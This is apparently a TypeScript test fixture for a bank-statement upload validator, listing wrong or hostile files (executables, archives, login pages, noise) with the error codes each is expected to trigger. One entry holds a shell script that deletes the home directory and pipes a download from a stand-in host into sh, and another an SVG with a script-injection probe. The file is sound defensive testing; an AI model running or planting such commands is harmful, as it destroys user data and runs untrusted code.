import { gzipSync } from 'node:zlib';
import { zip } from '../tables/build-zip.ts';
import { bytes, fiveMegabytes, type HostileFile, mebibyte, noise } from './hostile-file.ts';

const beginning = (hex: string, rest = noise(20_000)): Uint8Array => Uint8Array.from([...Buffer.from(hex, 'hex'), ...rest]);
const page = (body: string): Uint8Array => bytes(`<!doctype html><html><head><title>Banco</title></head><body>${body}</body></html>`);

/** What people send in the place of a statement. */
export const noStatements: readonly HostileFile[] = [
  { name: 'nothing', make: () => new Uint8Array(), codes: ['empty_file'] },
  { name: 'blanks alone', make: () => bytes(' \r\n\t'.repeat(1_000)), codes: ['no_rows', 'unknown_format'] },
  { name: '5 MB and a byte', make: () => new Uint8Array(fiveMegabytes + 1).fill(0x41), codes: ['too_large'] },
  { name: 'a program for Windows, called extrato.ofx', make: () => beginning('4d5a9000030000000400'), codes: ['unknown_format'] },
  { name: 'a program for Linux', make: () => beginning('7f454c4602010100'), codes: ['unknown_format'] },
  { name: 'a script', make: () => bytes('#!/bin/sh\nrm -rf "$HOME"; curl http://x/y | sh\n'), codes: ['no_columns', 'unknown_format'] },
  { name: 'a photograph, called fatura.pdf', make: () => beginning('ffd8ffe000104a464946'), codes: ['unknown_format'] },
  { name: 'a picture of the screen', make: () => beginning('89504e470d0a1a0a'), codes: ['unknown_format'] },
  { name: '1 MB of noise', make: () => noise(mebibyte), codes: ['unknown_format'] },
  { name: '5 MB of NULs', make: () => new Uint8Array(fiveMegabytes), codes: ['unknown_format', 'no_rows'] },
  { name: 'a statement packed by gzip', make: () => gzipSync('Data;Valor\n21/09/2026;-1,00\n'), codes: ['unknown_format'] },
  {
    name: 'a document of Word',
    make: () => zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }),
    codes: ['unknown_format'],
  },
  { name: 'a folder packed as ZIP', make: () => zip({ 'extrato.csv': 'Data;Valor\n21/09/2026;-1,00\n' }), codes: ['unknown_format'] },
  {
    name: 'what another program keeps',
    make: () => bytes('{"data":[{"date":"2026-11-07","amount":-8.5}],"n":1}'),
    codes: ['unknown_format'],
  },
  {
    name: 'a letter',
    make: () => bytes('Prezada cliente,\nsegue em anexo o extrato, como pedido.\nAtenciosamente; o banco.\n'),
    codes: ['no_columns'],
  },
  {
    name: 'names and numbers in a table',
    make: () => bytes('Nome;Telefone\nAna;11 99999-0000\nRui;11 98888-0000\n'),
    codes: ['no_columns'],
  },
  {
    name: 'a page on which to log in',
    make: () => page('<form>CPF <input name="cpf"> Senha <input type="password"></form>'),
    codes: ['login_page'],
  },
  {
    name: 'a page that says that the session is over',
    make: () => page('<h1>Sessão expirada</h1><p>Acesse novamente.</p>'),
    codes: ['login_page'],
  },
  { name: 'a page with an error of the bank', make: () => page('<h1>502 Bad Gateway</h1><hr>nginx'), codes: ['no_columns'] },
  {
    name: 'a picture drawn in XML',
    make: () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    codes: ['unknown_format'],
  },
];
